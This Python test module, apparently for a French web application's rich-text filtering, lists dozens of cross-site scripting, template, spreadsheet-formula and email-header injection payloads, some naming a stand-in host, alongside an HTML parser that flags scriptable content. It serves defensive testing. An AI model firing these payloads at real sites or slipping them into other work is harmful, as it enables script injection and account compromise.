"""A corpus of hostile contributions and a checker that finds active content in HTML.

Every payload that could run tries to call ``alert``; the browser test counts dialogs. The
checker is structural: it parses the HTML as a browser would start to, and reports any element,
attribute or URL that could run script.
"""

import re
from html.parser import HTMLParser

_SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,alert(1)></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//",
    "</p><script>alert(1)</script><p>",
    "<script type=module>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script>document.body.innerHTML='pwned'</script>",
]

_EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    '<p onclick="alert(1)">cliquez</p>',
    '<strong onmouseover="alert(1)">survol</strong>',
    '<a href="https://exemple.fr" onmouseover="alert(1)">lien</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe onload=alert(1)></iframe>",
    "<object onerror=alert(1)>",
    '<div style="width:expression(alert(1))">x</div>',
    '<em style="background:url(javascript:alert(1))">x</em>',
    "<p/onclick=alert(1)>x</p>",
    "<li onpointerenter=alert(1)>x</li>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
]

_JAVASCRIPT_LINKS = [
    '<a href="javascript:alert(1)">lien</a>',
    '<a href="JaVaScRiPt:alert(1)">lien</a>',
    '<a href=" javascript:alert(1)">lien</a>',
    '<a href="&#106;avascript:alert(1)">lien</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">lien</a>',
    '<a href="java&#x09;script:alert(1)">lien</a>',
    '<a href="java&#x0A;script:alert(1)">lien</a>',
    '<a href="java\tscript:alert(1)">lien</a>',
    '<a href="javascript&colon;alert(1)">lien</a>',
    '<a href="%6A%61vascript:alert(1)">lien</a>',
    '<a href="vbscript:msgbox(1)">lien</a>',
    '<a href="javascript://%0aalert(1)">lien</a>',
    '<a href="\x01javascript:alert(1)">lien</a>',
    '<a href="jav&#97;script:alert(1)">lien</a>',
    "<a href=javascript:alert(1)>sans guillemets</a>",
    '<a href="https://exemple.fr" href="javascript:alert(1)">double</a>',
    '<a title="x" href="javascript:alert(1)">titre</a>',
    '<a href="mailto:x@y.fr" onclick="alert(1)">mail</a>',
    "[clic](javascript:alert(1))",
    "javascript:alert(1)",
]

_DATA_LINKS = [
    '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">b64</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">DATA</a>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href="data:application/javascript,alert(1)">js</a>',
]

_SVG_MATH = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    '<math href="javascript:alert(1)">x</math>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><title><![CDATA[</title><script>alert(1)</script>]]></title></svg>",
]

_BROKEN_MARKUP = [
    '<img src="x',
    '<a href="javascript:alert(1)"',
    "<p <script>alert(1)</script>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<style><img src=x onerror=alert(1)></style>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    '<a href="https://exemple.fr">non fermé',
    "<ul><li>un<li>deux</ul></li></ol>",
    "</p></p></strong><em>",
    '<a href="https://exemple.fr"><a href="javascript:alert(1)">imbriqué</a></a>',
    "<img src=x onerror=alert(1)//",
    '<div><p title="</div><img src=x onerror=alert(1)>">',
    "<base href=javascript:alert(1)//>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<form action=javascript:alert(1)><input type=submit></form>",
    '<table background="javascript:alert(1)">',
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><html><script>alert(1)</script>",
]

_ENCODINGS = [
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "\u202egnp.exe",
    "<a href='https://exemple.fr/\u202e'>rtl</a>",
    "\xc0\xbcscript\xc0\xbealert(1)",
    "<ſcript>alert(1)</ſcript>",
    "<scrİpt>alert(1)</scrİpt>",
    "{{ config }}{% for x in range(3) %}{{ x }}{% endfor %}",
    "${alert(1)}#{alert(1)}<%= 7*7 %>",
    '=HYPERLINK("https://evil.example","clic")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "Subject: piégé\r\nBcc: victime@exemple.fr\r\n\r\n<script>alert(1)</script>",
    "Ligne 1\r\n.\r\nLigne après un point seul",
]


def _variants() -> list[str]:
    """Mix payloads into ordinary French text, where filters are often weaker."""
    base = _SCRIPT_TAGS[:4] + _EVENT_HANDLERS[:4] + _JAVASCRIPT_LINKS[:4] + _SVG_MATH[:2]
    return [f"<p>Je suis d'accord avec la mutuelle.</p>{payload}<p>Merci.</p>" for payload in base]


HOSTILE_INPUTS: list[str] = (
    _SCRIPT_TAGS
    + _EVENT_HANDLERS
    + _JAVASCRIPT_LINKS
    + _DATA_LINKS
    + _SVG_MATH
    + _BROKEN_MARKUP
    + _ENCODINGS
    + _variants()
)

#: Elements that the rich-text allow-list permits; anything else in user content is a leak.
SAFE_USER_TAGS = frozenset({"p", "br", "strong", "em", "ul", "ol", "li", "a", "mark"})
_DANGEROUS_TAGS = frozenset(
    {
        "script", "iframe", "object", "embed", "svg", "math", "style", "link", "meta", "base",
        "form", "input", "button", "textarea", "select", "img", "video", "audio", "source",
        "details", "marquee", "frame", "frameset", "applet", "isindex", "template", "noscript",
    }
)  # fmt: skip
_URL_ATTRS = frozenset({"href", "src", "action", "formaction", "data", "background", "xlink:href"})


_SCHEME_RE = re.compile(r"([a-z][a-z0-9+.-]*):")


def _scheme_is_safe(value: str) -> bool:
    """A URL is safe when, parsed as the URL standard says, it is relative or http(s)/mailto."""
    # The URL parser strips C0 controls and spaces around, and tabs and newlines anywhere.
    squeezed = value.strip("".join(map(chr, range(0x21)))).lower()
    squeezed = squeezed.replace("\t", "").replace("\n", "").replace("\r", "")
    match = _SCHEME_RE.match(squeezed)
    return match is None or match.group(1) in {"http", "https", "mailto"}


class _Finder(HTMLParser):
    """Collects every problem the checker sees in one document."""

    def __init__(self, allowed_scripts: tuple[str, ...]):
        super().__init__(convert_charrefs=True)
        self.allowed_scripts = allowed_scripts
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        names = {name for name, _ in attrs}
        values = dict(attrs)
        if tag == "script":
            src = values.get("src") or ""
            if not src.startswith(self.allowed_scripts):
                self.problems.append(f"script element (src={src!r})")
        elif tag in _DANGEROUS_TAGS and not _is_app_markup(tag, values):
            self.problems.append(f"<{tag}> element")
        for name in names:
            if name.startswith("on"):
                self.problems.append(f"event handler {name} on <{tag}>")
            if name == "style" and ("expression" in (values[name] or "") or "url(" in values[name]):
                self.problems.append(f"active style on <{tag}>")
            if name in _URL_ATTRS and not _scheme_is_safe(values[name] or ""):
                self.problems.append(f"unsafe URL {name}={values[name]!r} on <{tag}>")
        if tag == "meta" and "url=" in (values.get("content") or "").lower():
            self.problems.append("meta refresh")

    handle_startendtag = handle_starttag


def _is_app_markup(tag: str, attrs: dict) -> bool:
    """The application's own forms, inputs and buttons are expected on its pages."""
    if tag in {"form", "input", "button", "textarea", "select"}:
        return True
    if tag == "meta" and "http-equiv" not in attrs:
        return True
    if tag == "link" and attrs.get("href", "").startswith("/static/"):
        return True
    if tag == "details" and {"nav-menu", "nav-phone", "confirm"} & set(
        (attrs.get("class") or "").split()
    ):
        return True  # the header's menus and the confirmation steps
    return tag == "img" and (attrs.get("src") or "").startswith("/static/")


def active_content(html: str, allowed_scripts: tuple[str, ...] = ("/static/",)) -> list[str]:
    """Everything in ``html`` that could run script: empty means the page is inert."""
    finder = _Finder(allowed_scripts)
    finder.feed(html)
    finder.close()
    return finder.problems


def user_markup_problems(markup: str) -> list[str]:
    """Like ``active_content`` for a fragment of user rich text: only the allow-list may appear."""
    problems = active_content(markup, allowed_scripts=())

    class _Tags(HTMLParser):
        def handle_starttag(self, tag, attrs):
            if tag not in SAFE_USER_TAGS:
                problems.append(f"tag outside the allow-list: <{tag}>")
            for name, _ in attrs:
                if name not in {"href", "title", "rel", "class"}:
                    problems.append(f"attribute outside the allow-list: {name} on <{tag}>")

    parser = _Tags(convert_charrefs=True)
    parser.feed(markup)
    parser.close()
    return problems
